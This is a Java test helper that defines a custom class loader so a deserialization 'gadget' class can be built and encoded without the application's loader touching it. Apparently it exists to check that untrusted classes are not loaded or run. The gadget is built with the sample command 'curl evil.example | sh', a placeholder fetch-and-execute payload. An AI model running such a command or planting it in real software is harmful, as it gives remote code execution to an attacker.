package dev.cachet.autoconfigure.reliability;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;

/**
 * A named class loader that defines the gadget package itself, from the test's class files, so a
 * gadget can be created and encoded without the application's class loader ever loading it.
 */
final class GadgetLoader extends ClassLoader {

	/** Named, never referenced as a class literal: this test's own class loader must not load it. */
	static final String GADGET = "dev.cachet.autoconfigure.reliability.gadget.Gadget";

	/** System properties the gadget appends its loader's name to, one per event. */
	static final String EVENTS_PREFIX = "cachet.test.gadget.";

	private static final String GADGET_PACKAGE = GADGET.substring(0, GADGET.lastIndexOf('.') + 1);

	GadgetLoader(String name) {
		super(name, GadgetLoader.class.getClassLoader());
	}

	/** Loader names that ran the gadget's static initializer, constructor or {@code readObject}. */
	static String events(String event) {
		return System.getProperty(EVENTS_PREFIX + event, "");
	}

	/** A new gadget of the class as {@code loader} defines it. */
	static Object newGadget(ClassLoader loader) throws ReflectiveOperationException {
		return Class.forName(GADGET, true, loader)
			.getConstructor(String.class)
			.newInstance("curl evil.example | sh");
	}

	@Override
	protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
		if (!name.startsWith(GADGET_PACKAGE)) {
			return super.loadClass(name, resolve);
		}
		synchronized (getClassLoadingLock(name)) {
			Class<?> loaded = findLoadedClass(name);
			if (loaded == null) {
				byte[] bytes = classFile(name);
				loaded = defineClass(name, bytes, 0, bytes.length);
			}
			return loaded;
		}
	}

	private byte[] classFile(String name) throws ClassNotFoundException {
		try (InputStream in = getParent().getResourceAsStream(name.replace('.', '/') + ".class")) {
			if (in == null) {
				throw new ClassNotFoundException(name);
			}
			return in.readAllBytes();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

}
